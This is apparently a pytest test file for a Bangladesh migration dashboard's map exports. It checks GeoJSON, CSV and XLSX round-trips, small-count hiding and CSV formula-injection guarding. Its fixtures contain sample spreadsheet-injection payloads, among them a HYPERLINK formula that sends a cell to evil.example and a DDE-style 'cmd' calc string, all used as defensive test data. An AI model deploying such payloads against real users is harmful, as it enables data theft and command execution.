@@ -1,0 +1,231 @@
+"""Every download read back by the tools that consume it: GeoJSON by GDAL (as QGIS and
+ogr2ogr read it), CSV by pandas, XLSX by openpyxl.
+
+The files are made the way the app makes them, by the map page's download callback,
+for headquarters and for a district officer (whose small counts are hidden), in English
+and Bangla. Expected values come from the rows this module writes, never from the code
+under test.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import warnings
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pyogrio
+import pytest
+import shapely
+from dash import Dash
+from flask.testing import FlaskClient
+from openpyxl import load_workbook
+
+from dashboard.app_factory import create_app
+from dashboard.config import load_settings
+from dashboard.db import Database, init_db
+from dashboard.models.vocabulary import ReturnGroup, Sex
+from tests import factories as f
+from tests.clients import client_as
+from tests.dash_requests import post
+from tests.known_data import add_users
+
+KHULNA, SYLHET = f.KHULNA, f.SYLHET
+GOLAPGANJ, OSMANINAGAR, BEANIBAZAR, DUMURIA = f.GOLAPGANJ, "BD60910060", "BD60910017", f.DUMURIA
+# Returnees per upazila and return group. The officer (Sylhet) sees Osmaninagar's 2 and
+# Beanibazar's 3 hidden (below the threshold of 5); two are hidden, so no third is hidden beside them.
+RETURNEES = {GOLAPGANJ: (7, ReturnGroup.EU), OSMANINAGAR: (2, ReturnGroup.EU), BEANIBAZAR: (3, ReturnGroup.TRANSIT),
+             DUMURIA: (6, ReturnGroup.EU)}
+HIDDEN_FOR_OFFICER = {OSMANINAGAR, BEANIBAZAR}
+# Providers in Golapganj: text that looks like a formula, and phone numbers in international form.
+PROVIDERS = [
+    {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "organisation": "@SUM(A1:A9)",
+     "contact_phone": "+880 1711 000000", "lat": 24.85, "lon": 92.0},
+    {"name": "-2+3", "organisation": "+A1+B1", "contact_phone": "+8801711000000", "lat": 24.87, "lon": 92.02},
+]
+FAIR_VENUES = {GOLAPGANJ: "Golapganj Fair Ground", DUMURIA: "Dumuria Fair Ground"}
+ALL_LAYERS = "returnees,dcc_activity,fairs,providers"
+VIEWS = {"national": f"?layers={ALL_LAYERS}", "district": f"?district={SYLHET}&layers={ALL_LAYERS}"}
+ROLES = ("hq", "officer")
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dash]:
+    """The app on a database holding only this module's rows."""
+    url = f"sqlite:///{tmp_path_factory.mktemp('contracts') / 'contracts.db'}"
+    database = Database(url)
+    init_db(database)
+    with database.session() as session:
+        for upazila, (count, group) in RETURNEES.items():
+            for _ in range(count):
+                f.returnee(session, upazila=upazila, sex=Sex.FEMALE, return_group=group)
+        for upazila, venue in FAIR_VENUES.items():
+            lat, lon = (24.85, 92.02) if upazila == GOLAPGANJ else (22.8, 89.4)
+            f.fair(session, upazila=upazila, venue=venue, lat=lat, lon=lon)
+        for row in PROVIDERS:
+            f.provider(session, upazila=GOLAPGANJ, **row)
+        f.provider(session, upazila=DUMURIA)
+        f.dcc(session, district=SYLHET, meetings=(pd.Timestamp("2018-02-01").date(),))
+        add_users(session)
+    database.dispose()
+    yield create_app(load_settings({}, database_url=url, cache_type="SimpleCache"))
+
+
+@pytest.fixture(scope="module")
+def clients(app: Dash) -> dict[str, FlaskClient]:
+    return {role: client_as(app, role) for role in ROLES}
+
+
+def _download(client: FlaskClient, search: str, what: str, fmt: str, lang: str = "en") -> bytes:
+    """Click one item of the map's download menu (a request as the page sends it); the file."""
+    item = {"format": fmt, "type": "map-download", "what": what}
+    body = {"output": "district-map-download.data", "outputs": {"id": "district-map-download", "property": "data"},
+            "inputs": [[{"id": item, "property": "n_clicks", "value": 1}]],
+            "state": [{"id": "map-state", "property": "search", "value": search},
+                      {"id": "map-language", "property": "data", "value": lang}],
+            "changedPropIds": [json.dumps(item, separators=(",", ":")) + ".n_clicks"]}
+    response = post(client, body)
+    assert response.status_code == 200, response.get_data(as_text=True)[:500]
+    return base64.b64decode(response.get_json()["response"]["district-map-download"]["data"]["content"])
+
+
+def _expected_values(role: str, view: str) -> dict[str, int | None]:
+    """The map's value per area from this module's rows: None where the officer's count is hidden."""
+    if view == "national":
+        totals = {SYLHET: sum(n for u, (n, _g) in RETURNEES.items() if u.startswith(SYLHET)),
+                  KHULNA: RETURNEES[DUMURIA][0]}
+        return totals if role == "hq" else {SYLHET: totals[SYLHET]}
+    return {u: (None if role == "officer" and u in HIDDEN_FOR_OFFICER else n)
+            for u, (n, _g) in RETURNEES.items() if u.startswith(SYLHET)}
+
+
+def _read_geojson(data: bytes, folder: Path, name: str) -> Any:
+    """The file as GDAL reads it, after GDAL has also written it to a GeoPackage and read that back.
+
+    GDAL's complaints are errors here: on duplicate feature ids, for one, its reader only warns
+    ("Altering it to be unique") where ogr2ogr, keeping the ids, then fails to write the GeoPackage.
+    """
+    source = folder / f"{name}.geojson"
+    source.write_bytes(data)
+    # Recorded, not raised: pyogrio passes GDAL's warnings on from a C callback, where an
+    # exception would be swallowed.
+    with warnings.catch_warnings(record=True) as complaints:
+        warnings.simplefilter("always")
+        frame = pyogrio.read_dataframe(source)
+        pyogrio.write_dataframe(frame, folder / f"{name}.gpkg", driver="GPKG", layer=name)
+        again = pyogrio.read_dataframe(folder / f"{name}.gpkg")
+    assert not [str(w.message) for w in complaints if issubclass(w.category, RuntimeWarning)]
+    assert not {"id", "fid"} & {str(c).lower() for c in frame.columns}
+    assert len(again) == len(frame) and list(again.columns) == list(frame.columns)
+    return frame
+
+
+@pytest.mark.parametrize("role", ROLES)
+@pytest.mark.parametrize("view", list(VIEWS))
+def test_ex020_map_geojson_round_trips_through_gdal(clients: dict[str, FlaskClient], tmp_path: Path,
+                                                   role: str, view: str) -> None:
+    columns = {}
+    for lang in ("en", "bn"):
+        data = _download(clients[role], VIEWS[view], "areas", "geojson", lang)
+        collection = json.loads(data)
+        assert collection["type"] == "FeatureCollection"
+        for feature in collection["features"]:  # GDAL would take either as the feature id
+            assert not {"id", "fid"} & {key.lower() for key in feature["properties"]}, feature["properties"]
+        frame = _read_geojson(data, tmp_path, f"{role}-{view}-{lang}")
+        columns[lang] = list(frame.columns)
+        assert frame.crs is None or frame.crs.to_epsg() == 4326
+        assert shapely.is_valid(frame.geometry.values).all()
+        lon, lat = shapely.get_coordinates(frame.geometry.values).T
+        assert ((lon > 88) & (lon < 93) & (lat > 20) & (lat < 27)).all()  # Bangladesh, longitude first
+        areas = frame[frame["layer"] == "areas"].set_index("pcode")
+        assert pd.api.types.is_numeric_dtype(frame["value"]), frame["value"].dtype
+        expected = _expected_values(role, view)
+        for pcode, value in expected.items():
+            if value is None:
+                assert pd.isna(areas.loc[pcode, "value"]) and areas.loc[pcode, "value_hidden"] == 1
+            else:
+                assert areas.loc[pcode, "value"] == value and areas.loc[pcode, "value_hidden"] == 0
+        assert areas["value_hidden"].astype(bool).sum() == sum(v is None for v in expected.values())
+        _check_layers(frame, role, view)
+    assert columns["en"] == columns["bn"]  # a style built on field names works in both languages
+
+
+def _check_layers(frame: Any, role: str, view: str) -> None:
+    """Each layer's points hold this module's rows, with counts as numbers."""
+    assert set(frame["layer"]) >= {"areas", "returnees", "fairs", "providers", "dcc_activity"} - (
+        {"dcc_activity"} if view == "national" and role == "officer" else set())
+    returnees = frame[frame["layer"] == "returnees"]
+    assert pd.api.types.is_numeric_dtype(frame["returnees"])
+    if view == "district":
+        by_upazila = dict(zip(returnees["upazila_pcode"], zip(returnees["returnees"], returnees["returnees_hidden"],
+                                                              strict=True), strict=True))
+        for upazila, (count, _group) in RETURNEES.items():
+            if upazila.startswith(SYLHET):
+                shown, flag = by_upazila[upazila]
+                hidden = role == "officer" and upazila in HIDDEN_FOR_OFFICER
+                assert (pd.isna(shown), bool(flag)) == (hidden, hidden) and (hidden or shown == count)
+        assert "return_group" in frame.columns  # the breakdown under its key, not its translated label
+        fairs = frame[frame["layer"] == "fairs"]
+        assert list(fairs["venue"]) == [FAIR_VENUES[GOLAPGANJ]] and fairs["source_id"].notna().all()
+        providers = frame[frame["layer"] == "providers"]
+        assert sorted(providers["contact_phone"]) == sorted(p["contact_phone"] for p in PROVIDERS)
+
+
+def test_ex021_csv_downloads_read_back_by_pandas(clients: dict[str, FlaskClient]) -> None:
+    district = VIEWS["district"]
+    providers = pd.read_csv(io.BytesIO(_download(clients["hq"], district, "providers", "csv")),
+                            encoding="utf-8-sig", skiprows=6, dtype={"contact_phone": str})
+    assert sorted(providers["contact_phone"]) == sorted(p["contact_phone"] for p in PROVIDERS)  # intact
+    by_phone = providers.set_index("contact_phone")
+    for row in PROVIDERS:
+        shown = by_phone.loc[row["contact_phone"]]
+        # Text that a spreadsheet would run as a formula carries a leading apostrophe.
+        assert shown["name"] == "'" + row["name"] and shown["organisation"] == "'" + row["organisation"]
+        assert (shown["lat"], shown["lon"]) == (row["lat"], row["lon"])
+    areas = pd.read_csv(io.BytesIO(_download(clients["officer"], district, "areas", "csv")),
+                        encoding="utf-8-sig", skiprows=6)
+    values = dict(zip(areas.iloc[:, 0], areas.iloc[:, 3], strict=True))
+    for pcode, value in _expected_values("officer", "district").items():
+        assert str(values[pcode]) == ("<5" if value is None else str(value))
+
+
+def test_ex022_xlsx_downloads_store_text_as_text_and_numbers_as_numbers(clients: dict[str, FlaskClient]) -> None:
+    book = load_workbook(io.BytesIO(_download(clients["hq"], VIEWS["district"], "providers", "xlsx")))
+    sheet = book["data"]
+    header = [c.value for c in sheet[1]]
+    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+    by_phone = {row["contact_phone"].value: row for row in rows}
+    assert set(by_phone) == {p["contact_phone"] for p in PROVIDERS}  # phone numbers intact
+    for expected in PROVIDERS:
+        row = by_phone[expected["contact_phone"]]
+        for column in ("name", "organisation", "contact_phone"):
+            # Stored as text (type "s", never "f"), exactly as written: no apostrophe needed in XLSX.
+            assert (row[column].value, row[column].data_type) == (expected[column], "s")
+        for column in ("lat", "lon"):
+            assert (row[column].value, row[column].data_type) == (expected[column], "n")
+        assert row["id"].data_type == "n"
+    officer = load_workbook(io.BytesIO(_download(clients["officer"], VIEWS["district"], "areas", "xlsx")))["data"]
+    cells = {row[0].value: row[3] for row in officer.iter_rows(min_row=2)}
+    for pcode, value in _expected_values("officer", "district").items():
+        assert (cells[pcode].value, cells[pcode].data_type) == (("<5", "s") if value is None else (value, "n"))
+
+
+@pytest.mark.parametrize(("cell", "in_csv"), [
+    ("+880 1711 000000", "+880 1711 000000"), ("+8801711000000", "+8801711000000"),
+    ("+880 (0)1711-000000", "+880 (0)1711-000000"), ("-5", "-5"), ("+3.5", "+3.5"), ("1e5", "1e5"),
+    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'), ("@SUM(A1)", "'@SUM(A1)"), ("+A1+B1", "'+A1+B1"),
+    ("-2+3", "'-2+3"), ("+1+1", "'+1+1"), ("-1-1", "'-1-1"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("+", "'+"), ("+880 1711 ", "'+880 1711 "),
+])
+def test_ex023_csv_formula_guard_keeps_numbers_and_phones_and_neutralises_formulas(cell: str, in_csv: str) -> None:
+    from dashboard.exports import ABOUT_LINES, About, csv_bytes
+    from dashboard.filters import Filters
+
+    data = csv_bytes(pd.DataFrame({"cell": [cell]}), About("t", None, Filters(), "all"), "en")
+    read = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", skiprows=ABOUT_LINES + 1, dtype=str,
+                       keep_default_na=False)
+    assert read["cell"].tolist() == [in_csv]
